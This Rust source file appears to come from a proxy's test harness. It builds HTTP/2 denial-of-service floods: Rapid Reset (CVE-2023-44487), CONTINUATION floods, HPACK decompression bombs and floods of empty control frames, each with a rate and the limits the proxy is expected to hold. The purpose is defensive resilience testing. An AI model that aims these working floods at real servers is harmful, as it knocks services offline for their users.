//! The attacks with frames: C2 to C6 of tests/CASES.md at their rates.

use std::time::Duration;

use crate::{
    attack::Attack,
    flood::Flood,
    frames::{
        CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, Method, NEWEST_ENTRY, PING, PRIORITY, RST_STREAM,
        SETTINGS, WINDOW_UPDATE, frame, indexed_field, opening, plain_field, request, stream, table_size,
    },
};

const MIB: u64 = 1 << 20;
/// The proxy's limit of a header list (`head_bytes`).
pub const HEADER_LIST: u64 = 64 * 1024;
/// The proxy's limit of frames that carry nothing in a second, and those that it still reads after its goodbye.
const CONTROL_FRAMES: u32 = 1_000 + 1_000;
/// What is under way while the attacker has not heard of its end yet, at the rate of 50,000 a second: 20 ms of it.
const IN_FLIGHT: u32 = 1_000;

const TEN_SECONDS: Duration = Duration::from_secs(10);
const FIVE_SECONDS: Duration = Duration::from_secs(5);

/// The length of a field that just fits into the dynamic table of 4,096 bytes (RFC 7541 §4.1: 32 bytes more for each).
const FITTING: usize = 4_000;
/// References in one header list of a bomb: 4 KiB on the wire, 16 MiB when they are written out.
const REFERENCES: usize = 4_096;

/// All of them.
pub fn all() -> Vec<Box<dyn Attack>> {
    let all = [
        rapid_reset(),
        continuation(),
        hpack_bomb(),
        hpack_table_size(),
        empty("empty-data", "C5", "empty DATA frames of an upload", opening_with_upload(), |_, bytes| {
            frame(bytes, DATA, 0, stream(0), &[]);
        }),
        empty("settings", "C6", "SETTINGS frames", opening(), |_, bytes| frame(bytes, SETTINGS, 0, 0, &[])),
        empty("ping", "C6", "PING frames", opening(), |_, bytes| frame(bytes, PING, 0, 0, &[0; 8])),
        empty("priority", "C6", "PRIORITY frames", opening(), |_, bytes| {
            frame(bytes, PRIORITY, 0, stream(1), &[0, 0, 0, 0, 15]);
        }),
        empty("window-update", "C6", "WINDOW_UPDATE frames", opening(), |_, bytes| {
            frame(bytes, WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1]);
        }),
    ];
    all.into_iter().map(|flood| Box::new(flood) as Box<dyn Attack>).collect()
}

/// CVE-2023-44487.
fn rapid_reset() -> Flood {
    Flood {
        name: "rapid-reset",
        case: "C2",
        what: "HEADERS and RST_STREAM at once",
        unit: "streams",
        rate: 10_000,
        lasts: TEN_SECONDS,
        reads: true,
        opening: opening(),
        nth: |index, bytes| {
            frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream(index), &request(Method::Get));
            // CANCEL (RFC 9113 §7).
            frame(bytes, RST_STREAM, 0, stream(index), &[0, 0, 0, 8]);
        },
        most_units: Some(1_000),
        growth_allowed: 4 * MIB,
    }
}

/// CVE-2024-27316 and its kin.
fn continuation() -> Flood {
    let mut beginning = opening();
    frame(&mut beginning, HEADERS, END_STREAM, stream(0), &request(Method::Get));
    Flood {
        name: "continuation",
        case: "C3",
        what: "CONTINUATION frames of a header list that never ends",
        unit: "frames",
        rate: 10_000,
        lasts: FIVE_SECONDS,
        reads: true,
        opening: beginning,
        nth: |index, bytes| {
            let mut fields = Vec::new();
            plain_field(&mut fields, "x", &format!("{index:0>1000}"));
            frame(bytes, CONTINUATION, 0, stream(0), &fields);
        },
        most_units: Some(100),
        growth_allowed: MIB,
    }
}

fn hpack_bomb() -> Flood {
    Flood {
        name: "hpack-bomb",
        case: "C4",
        what: "header lists of 4 KiB that repeat one field of the dynamic table 4,096 times",
        unit: "streams",
        rate: 500,
        lasts: FIVE_SECONDS,
        reads: true,
        opening: opening(),
        nth: |index, bytes| {
            let mut fields = request(Method::Get);
            if index == 0 {
                indexed_field(&mut fields, "x", &"y".repeat(FITTING));
            } else {
                fields.extend([NEWEST_ENTRY; REFERENCES]);
            }
            frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream(index), &fields);
        },
        most_units: None,
        growth_allowed: 10 * HEADER_LIST,
    }
}

fn hpack_table_size() -> Flood {
    Flood {
        name: "hpack-table-size",
        case: "C4",
        what: "header lists that empty the dynamic table, and fill it again",
        unit: "streams",
        rate: 500,
        lasts: FIVE_SECONDS,
        reads: true,
        opening: opening_with_window(),
        nth: |index, bytes| {
            let mut fields = Vec::new();
            table_size(&mut fields, 0);
            table_size(&mut fields, 4_096);
            fields.extend(request(Method::Get));
            indexed_field(&mut fields, "x", &"y".repeat(FITTING));
            frame(bytes, HEADERS, END_HEADERS | END_STREAM, stream(index), &fields);
        },
        most_units: None,
        growth_allowed: 10 * HEADER_LIST,
    }
}

/// A connection that takes all answers: without it, the answers themselves would hold the streams open.
fn opening_with_window() -> Vec<u8> {
    let mut bytes = opening();
    frame(&mut bytes, WINDOW_UPDATE, 0, 0, &[0x7f, 0, 0, 0]);
    bytes
}

fn opening_with_upload() -> Vec<u8> {
    let mut bytes = opening();
    frame(&mut bytes, HEADERS, END_HEADERS, stream(0), &request(Method::Post));
    bytes
}

/// Frames that carry nothing, at the rate of C6, from an attacker that reads nothing.
fn empty(
    name: &'static str,
    case: &'static str,
    what: &'static str,
    opening: Vec<u8>,
    nth: fn(u32, &mut Vec<u8>),
) -> Flood {
    Flood {
        name,
        case,
        what,
        unit: "frames",
        rate: 50_000,
        lasts: FIVE_SECONDS,
        reads: false,
        opening,
        nth,
        most_units: Some(CONTROL_FRAMES + IN_FLIGHT),
        growth_allowed: MIB,
    }
}
